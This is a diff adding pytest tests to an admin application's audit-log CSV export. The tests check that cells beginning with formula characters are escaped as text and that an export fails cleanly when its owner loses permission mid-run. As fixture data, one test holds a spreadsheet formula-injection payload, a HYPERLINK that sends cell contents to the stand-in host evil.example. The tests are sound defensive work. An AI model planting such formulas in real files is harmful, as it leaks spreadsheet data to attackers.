@@ -8,9 +8,13 @@ from pathlib import Path
 
 import pytest
 
+from adminapp.accounts.models import OrgMembership, User
+from adminapp.audit.models import AuditEvent
+from adminapp.exports.jobs import AuditExport
 from adminapp.jobs.engine import job_run
 from adminapp.jobs.models import Job
 from tests.api.helpers import API, api_error
+from tests.factories import PASSWORD, make_key
 
 
 @pytest.fixture
@@ -111,3 +115,87 @@ def test_a_resumed_export_whose_partial_file_cannot_be_trusted_starts_over_and_i
     assert path.read_bytes() == whole  # the header once, every row once, no NUL padding
     assert [r["action"] for r in _rows(media, job)] == [f"custom.n{n}" for n in range(5)]
     assert job.items.count() == 3 and job.items_succeeded == 3  # the outcomes, recorded anew
+
+
+# --- what a spreadsheet would run, and rights lost while the export runs (Hardening II #32) ---
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_a_spreadsheet_would_run_as_a_formula_are_exported_as_text(
+    client, tenant, media, prefix
+):
+    formula = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    AuditEvent.objects.create(
+        organization=tenant.org,
+        actor_type="user",
+        actor_id=tenant.member.id,
+        actor_label=formula,
+        action="custom.csv",
+        target_type="user",
+        target_id=formula,
+    )
+    job = _run(_export(client, tenant, {"action": "custom.csv"}).json()["id"])
+    [row] = _rows(media, job)
+    assert (row["actor_label"], row["target_id"]) == ("'" + formula, "'" + formula)
+
+
+def test_a_member_whose_email_reads_as_a_formula_is_exported_as_text(client, tenant, media):
+    """The same through the API: an email may begin with "=" or "-", and it is the actor's
+    label of every event that person writes."""
+    for email in ("=1+2@example.com", "-2+3@example.com", "a=b@example.com"):
+        added = client.post(
+            f"{API}/organizations/{tenant.org.id}/members",
+            {"email": email, "role": "MEMBER", "password": PASSWORD},
+            content_type="application/json",
+            **tenant.auth(),
+        )
+        assert added.status_code == 201, added.content
+        user = User.objects.get(email=email)
+        client.post(
+            f"{API}/audit/custom/hello",
+            {},
+            content_type="application/json",
+            HTTP_AUTHORIZATION=f"Bearer {make_key(user, tenant.org)}",
+        )
+    job = _run(_export(client, tenant, {"action": "custom.hello"}).json()["id"])
+    assert [row["actor_label"] for row in _rows(media, job)] == [
+        "'=1+2@example.com",
+        "'-2+3@example.com",
+        "a=b@example.com",  # text that does not start a formula is left as it is
+    ]
+
+
+def test_an_export_stops_with_a_clear_error_once_its_owner_may_no_longer_read_the_log(
+    client, tenant, media, settings, monkeypatch
+):
+    """The ADMIN who started it is made a MEMBER while it runs: the rows after that are not
+    written, the job fails saying why, and there is no file to download."""
+    settings.AUDIT_EXPORT_CHUNK = 2
+    for n in range(6):
+        client.post(
+            f"{API}/audit/custom/n{n}", {}, content_type="application/json", **tenant.auth()
+        )
+    response = client.post(
+        f"{API}/audit/exports",
+        {"action": "custom."},
+        content_type="application/json",
+        **tenant.auth("ADMIN"),
+    )
+    real_apply = AuditExport.apply
+
+    def apply_then_demote(self, ctx, chunk):
+        outcomes = real_apply(self, ctx, chunk)
+        OrgMembership.objects.filter(user=tenant.admin).update(account_role="MEMBER")
+        return outcomes
+
+    monkeypatch.setattr(AuditExport, "apply", apply_then_demote)
+
+    job = _run(response.json()["id"])
+
+    assert (job.state, job.error_code) == ("FAILED", "owner_permission_lost")
+    assert job.error_message == (
+        f"{tenant.admin.email} may no longer read and export the audit log (audit.read), "
+        "which this job needs: their role changed after it started. It stopped there."
+    )
+    assert job.progress_done == 2 and job.items_succeeded == 1  # the first chunk only
+    assert job.result_file == ""
+    download = client.get(f"{API}/jobs/{job.id}/download", **tenant.auth("OWNER"))
+    assert download.status_code == 404
